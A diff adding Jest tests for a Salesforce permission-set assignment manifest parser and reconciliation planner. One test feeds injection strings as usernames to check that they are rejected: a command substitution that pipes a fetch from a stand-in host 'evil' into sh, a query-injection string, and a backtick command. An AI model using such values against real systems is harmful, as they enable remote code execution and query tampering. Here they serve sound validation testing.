@@ -0,0 +1,105 @@
+import { describe, expect, test } from '@jest/globals';
+import {
+    DEFAULT_USER_KEY,
+    parseAssignmentManifest,
+    planReconciliation,
+    resolveManifestUser,
+    SAMPLE_ASSIGNMENT_MANIFEST
+} from '../commands/permsets/assignmentManifest';
+import { AssignmentItem, AssignmentUser, ExistingAssignment } from '../commands/permsets/assignments';
+
+const admin: AssignmentUser = { id: '005A', username: 'admin@scratch.example.com' };
+const salesUser: AssignmentItem = { kind: 'permissionSet', id: '0PSA', name: 'Sales_User' };
+const legacy: AssignmentItem = { kind: 'permissionSet', id: '0PSB', name: 'Legacy_Access' };
+const support: AssignmentItem = { kind: 'permissionSetGroup', id: '0PGA', name: 'Support' };
+const crmLicense: AssignmentItem = { kind: 'permissionSetLicense', id: '0PLA', name: 'CRM_License' };
+const available = [salesUser, legacy, support, crmLicense];
+
+function assignmentOf(user: AssignmentUser, item: AssignmentItem, recordId: string): ExistingAssignment {
+    return { assigneeId: user.id, itemId: item.id, kind: item.kind, name: item.name, recordId };
+}
+
+describe('parseAssignmentManifest', () => {
+    test('reads the items of each user in file order', () => {
+        const entries = parseAssignmentManifest(JSON.stringify({
+            qa: { permissionSets: [' Sales_User '], permissionSetLicenses: ['CRM_License'] },
+            [DEFAULT_USER_KEY]: { permissionSetGroups: ['Support'] }
+        }));
+
+        expect(entries).toEqual([
+            { user: 'qa', items: { permissionSet: ['Sales_User'], permissionSetLicense: ['CRM_License'] } },
+            { user: DEFAULT_USER_KEY, items: { permissionSetGroup: ['Support'] } }
+        ]);
+    });
+
+    test('parses the sample manifest', () => {
+        expect(parseAssignmentManifest(SAMPLE_ASSIGNMENT_MANIFEST)).toEqual([
+            { user: DEFAULT_USER_KEY, items: { permissionSet: [], permissionSetGroup: [], permissionSetLicense: [] } }
+        ]);
+    });
+
+    test('rejects files that are not manifests', () => {
+        expect(() => parseAssignmentManifest('{')).toThrow('not valid JSON');
+        expect(() => parseAssignmentManifest('[]')).toThrow('must map usernames or aliases');
+        expect(() => parseAssignmentManifest('{"qa": ["Sales_User"]}')).toThrow('"qa" in config/permset-assignments.json must be an object');
+        expect(() => parseAssignmentManifest('{"qa": {"permsets": []}}')).toThrow('"qa.permsets"');
+        expect(() => parseAssignmentManifest('{"qa": {"permissionSets": "Sales_User"}}')).toThrow('must be a list of API names');
+        expect(() => parseAssignmentManifest('{"qa": {"permissionSets": [""]}}')).toThrow('must be a list of API names');
+    });
+
+    test('accepts usernames, aliases and the default user only', () => {
+        const manifest = (user: string) => JSON.stringify({ [user]: { permissionSets: ['Sales_User'] } });
+
+        expect(parseAssignmentManifest(manifest('first.last+qa@example.com.dev')).map(entry => entry.user)).toEqual(['first.last+qa@example.com.dev']);
+        expect(parseAssignmentManifest(manifest('qa-scratch_1')).map(entry => entry.user)).toEqual(['qa-scratch_1']);
+        expect(() => parseAssignmentManifest(manifest('$(curl evil|sh)'))).toThrow('"$(curl evil|sh)" in config/permset-assignments.json is not a username');
+        expect(() => parseAssignmentManifest(manifest("qa' OR Name != '"))).toThrow('is not a username, an alias or $default');
+        expect(() => parseAssignmentManifest(manifest('qa@`id`'))).toThrow('is not a username');
+    });
+});
+
+describe('resolveManifestUser', () => {
+    const aliases = new Map([['qa', 'qa@scratch.example.com']]);
+
+    test('resolves the default user, aliases and usernames', () => {
+        expect(resolveManifestUser(DEFAULT_USER_KEY, aliases, admin.username)).toBe(admin.username);
+        expect(resolveManifestUser('qa', aliases, admin.username)).toBe('qa@scratch.example.com');
+        expect(resolveManifestUser('other@scratch.example.com', aliases, admin.username)).toBe('other@scratch.example.com');
+    });
+});
+
+describe('planReconciliation', () => {
+    const entries = [{ user: admin.username.toUpperCase(), items: { permissionSet: ['sales_user'], permissionSetGroup: ['Support'] } }];
+    const existing = [
+        assignmentOf(admin, salesUser, '0PaA'),
+        assignmentOf(admin, legacy, '0PaB'),
+        assignmentOf(admin, crmLicense, '2LAA')
+    ];
+
+    test('assigns what is missing', () => {
+        expect(planReconciliation(entries, [admin], available, existing, { removeExtras: false })).toEqual([
+            { user: admin, item: salesUser, outcome: 'alreadyAssigned' },
+            { user: admin, item: support, outcome: 'toAssign' }
+        ]);
+    });
+
+    test('removes extras of the listed kinds only', () => {
+        const steps = planReconciliation(entries, [admin], available, existing, { removeExtras: true });
+
+        expect(steps.filter(step => step.outcome === 'toRemove')).toEqual([
+            { user: admin, item: legacy, outcome: 'toRemove', recordId: '0PaB' }
+        ]);
+    });
+
+    test('fails entries whose user or items are not in the org', () => {
+        const steps = planReconciliation([
+            { user: 'gone@scratch.example.com', items: { permissionSet: ['Sales_User'] } },
+            { user: admin.username, items: { permissionSetLicense: ['Missing_License'] } }
+        ], [admin], available, [], { removeExtras: true });
+
+        expect(steps).toEqual([
+            { user: { id: '', username: 'gone@scratch.example.com' }, item: salesUser, outcome: 'failed', message: 'User not found in the org' },
+            { user: admin, item: { kind: 'permissionSetLicense', id: '', name: 'Missing_License' }, outcome: 'failed', message: 'Not found in the org' }
+        ]);
+    });
+});